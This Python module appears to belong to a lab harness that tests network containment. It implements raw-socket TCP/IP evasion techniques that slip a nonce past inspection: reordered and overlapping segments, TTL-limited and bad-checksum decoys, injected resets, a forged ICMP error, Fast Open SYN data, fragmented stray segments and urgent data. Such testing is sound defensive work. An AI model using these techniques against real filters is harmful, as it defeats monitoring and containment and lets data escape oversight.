"""Attempts that play with TCP itself: segments out of order, over one another, meant to die on the way, or sent without a connection.

The kernel opens the connection; its numbers are read off the wire, and what follows is made by hand. Raw sockets only.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Iterator
from dataclasses import dataclass

from containment.lab.world.attacks.client_hello import client_hello
from containment.lab.world.attacks.raw_ip import ACK, MORE, PSH, RST, checksum, packet, segment, send
from containment.lab.world.attacks.task import Attempt, Technique, closing

_IPV4 = 0x0800
_NO_COOKIE = 34
"""TCP_FASTOPEN_NO_COOKIE (linux/tcp.h): data in the first packet to whomever, cookie or not."""
_DIES = 2
"""A TTL that reaches the gateway, two hops away, and nobody behind it."""
_SPLIT = 90
"""Behind the session id, which holds the nonce, and inside the server name."""


@dataclass
class _Opened:
    """A connection's ends and its next numbers."""

    ends: tuple[str, int, str, int]
    seq: int
    ack: int

    def send(self, at: int, data: bytes, flags: int = PSH | ACK, *, ttl: int = 64, spoil: bool = False) -> None:
        """Send bytes as those that stand at a place of the stream."""
        send(self.ends[2], packet(self.ends[2], 6, segment(self.ends, self.seq + at, self.ack, data, flags, spoil=spoil), ttl=ttl))


@contextlib.contextmanager
def _opened(attempt: Attempt, port: int) -> Iterator[_Opened]:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_IPV4)) as wire:
        wire.settimeout(attempt.timeout)
        with closing(attempt.connect(port)) as handle:
            ends = (*handle.getsockname()[:2], *handle.getpeername()[:2])
            while True:
                data = wire.recv(65536)
                tcp = data[(data[0] & 15) * 4 :]
                if data[9] == 6 and tcp[13] & 0x12 == 0x12 and struct.unpack("!HH", tcp[:4]) == (port, ends[1]):
                    break
            seq, ack = struct.unpack_from("!II", tcp, 4)
            yield _Opened(ends, ack, seq + 1)


def segments(attempt: Attempt) -> None:
    """Send a first message for `sni` with the nonce, in segments that `how` says; a `decoy` is another first message, without it."""
    how, sni = attempt.option("how"), attempt.option("sni").encode()
    attempt.marks.append(sni.decode().lower())
    real = client_hello(attempt.nonce.encode(), [sni])
    decoy = client_hello(b"-" * len(attempt.nonce), [attempt.option("decoy").encode()])
    with _opened(attempt, attempt.number("port", 443)) as flow:
        if how == "reversed":
            flow.send(_SPLIT + 30, real[_SPLIT + 30 :])
            flow.send(_SPLIT, real[_SPLIT : _SPLIT + 30])
        elif how == "overlapping":
            flow.send(_SPLIT, decoy[_SPLIT:])
        elif how == "repeated":
            flow.send(_SPLIT, real[_SPLIT:])
            flow.send(_SPLIT - 20, real[_SPLIT - 20 : _SPLIT + 40])
        elif how == "dying-decoy":
            flow.send(0, decoy, ttl=_DIES)
        elif how == "spoilt-decoy":
            flow.send(0, decoy, spoil=True)
        elif how == "old-decoy":
            flow.send(-len(decoy), decoy)
        elif how == "dying-reset":
            flow.send(0, b"", RST | ACK, ttl=_DIES)
        elif how == "wrong-reset":
            flow.send(1 << 20, b"", RST | ACK)
        if attempt.option("decoy"):
            time.sleep(0.3)
        flow.send(0, real if how not in ("reversed", "repeated") else real[:_SPLIT])


def quoted(attempt: Attempt) -> None:
    """Open a connection, and answer what never came over it with an ICMP error that quotes the nonce."""
    attempt.marks.append(attempt.option("sni").lower())
    with _opened(attempt, attempt.number("port", 443)) as flow:
        flow.send(0, client_hello(b"", [attempt.option("sni").encode()]))
        source, sport, where, port = flow.ends
        never = packet(source, 6, segment((where, port, source, sport), flow.ack, flow.seq, attempt.nonce.encode()), source=where, number=9)
        body = never[:10] + struct.pack("!H", checksum(never[:20])) + never[12:]
        head = struct.pack("!BBHI", 3, 3, 0, 0)
        error = head[:2] + struct.pack("!H", checksum(head + body)) + head[4:] + body
        for number in (0x7003, 0x7004):
            send(where, packet(where, 1, error, number=number))
            time.sleep(0.2)


def in_syn(attempt: Attempt) -> None:
    """Put a first message with the nonce into the very first packet of a connection (TCP Fast Open)."""
    sni, port = attempt.option("sni"), attempt.number("port", 443)
    attempt.marks.append(sni.lower())
    where = attempt.target()
    handle = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    handle.settimeout(attempt.timeout)
    handle.setsockopt(socket.IPPROTO_TCP, _NO_COOKIE, 1)
    handle.bind(("", 0))
    attempt.ports.append(int(handle.getsockname()[1]))
    with closing(handle):
        handle.sendto(client_hello(attempt.nonce.encode(), [sni.encode()]), socket.MSG_FASTOPEN, (where, port))
        handle.recv(4096)


def stray(attempt: Attempt) -> None:
    """Send a segment with the nonce that belongs to no connection; `fragments`: in pieces of eight bytes."""
    where, port = attempt.target(), attempt.number("port", 8443)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        handle.connect((where, port))
        ends = (str(handle.getsockname()[0]), 30000 + int(attempt.address.rpartition(".")[2]), where, port)
    data = segment(ends, 1000, 1, attempt.nonce.encode(), attempt.number("flags", PSH | ACK))
    size = 8 if "fragments" in attempt.options else 1 << 16
    for number in (0x7001, 0x7002):
        pieces = [(at, data[at : at + size]) for at in range(0, len(data), size)]
        flags = [(0 if at + size >= len(data) else MORE) | at // 8 for at, _ in pieces]
        send(where, *(packet(where, 6, piece, number=number, flags=flag) for (_, piece), flag in zip(pieces, flags, strict=True)))
        time.sleep(0.2)


def urgent(attempt: Attempt) -> None:
    """Send a first message for `sni`, and the nonce's bytes as urgent data."""
    attempt.marks.append(attempt.option("sni").lower())
    with closing(attempt.connect(attempt.number("port", 443))) as handle:
        handle.send(attempt.nonce.encode(), socket.MSG_OOB)
        handle.sendall(client_hello(attempt.nonce.encode(), [attempt.option("sni").encode()]))
        time.sleep(2.5)  # whoever looks for a protocol in it gives up before it is over


TECHNIQUES: dict[str, Technique] = {"segments": segments, "in-syn": in_syn, "quoted": quoted, "stray": stray, "urgent": urgent}
